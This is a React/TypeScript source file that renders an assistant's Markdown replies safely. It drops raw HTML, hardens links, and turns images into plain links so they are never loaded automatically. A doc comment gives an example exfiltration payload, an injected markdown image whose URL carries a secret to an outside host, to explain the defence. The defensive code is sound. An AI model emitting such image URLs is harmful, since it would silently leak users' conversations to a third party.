import { isValidElement, memo } from "react";
import type { ReactNode } from "react";
import ReactMarkdown from "react-markdown";
import type { Components } from "react-markdown";
import remarkGfm from "remark-gfm";

import { CodeBlock } from "@/features/chat/components/CodeBlock";

function textOf(node: ReactNode): string {
  if (typeof node === "string" || typeof node === "number") return String(node);
  if (Array.isArray(node)) return node.map(textOf).join("");
  if (isValidElement<{ children?: ReactNode }>(node)) return textOf(node.props.children);
  return "";
}

/** The part of a hast node this file reads (the `hast` types are not a direct dependency). */
interface HastNode {
  type: string;
  tagName?: string;
  properties?: Record<string, unknown>;
  children?: HastNode[];
  value?: string;
}

/**
 * Turns every image into a link showing its full address, so nothing is fetched unless the
 * person clicks: an injected `![x](https://host/?d=SECRET)` would otherwise send the
 * conversation to that host the moment the reply is shown. Inside a link an image becomes its
 * alt text (a link cannot hold a link). Runs on hast, after reference-style images are resolved.
 */
function rehypeImagesAsLinks() {
  const rewrite = (node: HastNode, insideLink: boolean): void => {
    if (!node.children) return;
    node.children = node.children.map((child) => {
      if (child.type !== "element") return child;
      if (child.tagName === "img") {
        const src = typeof child.properties?.src === "string" ? child.properties.src : "";
        const alt = typeof child.properties?.alt === "string" ? child.properties.alt.trim() : "";
        const label = alt ? `Image “${alt}”` : "Image";
        if (insideLink || !src) return { type: "text", value: `[${label}]` };
        return {
          type: "element",
          tagName: "a",
          properties: { href: src, className: ["image-link"] },
          children: [{ type: "text", value: `${label}: ${src}` }],
        };
      }
      rewrite(child, insideLink || child.tagName === "a");
      return child;
    });
  };
  return (tree: HastNode) => rewrite(tree, false);
}

const components: Components = {
  pre({ children }) {
    const child = Array.isArray(children) ? children[0] : children;
    const className = isValidElement<{ className?: string }>(child) ? (child.props.className ?? "") : "";
    const language = /language-([\w+#-]+)/.exec(className)?.[1];
    return <CodeBlock code={textOf(child).replace(/\n$/, "")} language={language} />;
  },
  a({ href, className, children }) {
    return (
      <a href={href} className={className} target="_blank" rel="noopener noreferrer nofollow">
        {children}
      </a>
    );
  },
};

/**
 * Markdown as the assistant writes it (GFM tables, lists, code). Raw HTML is not rendered, so
 * a reply cannot inject markup; react-markdown also drops unsafe link protocols; images are
 * links, never loaded by themselves.
 */
export const Markdown = memo(function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeImagesAsLinks]} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});
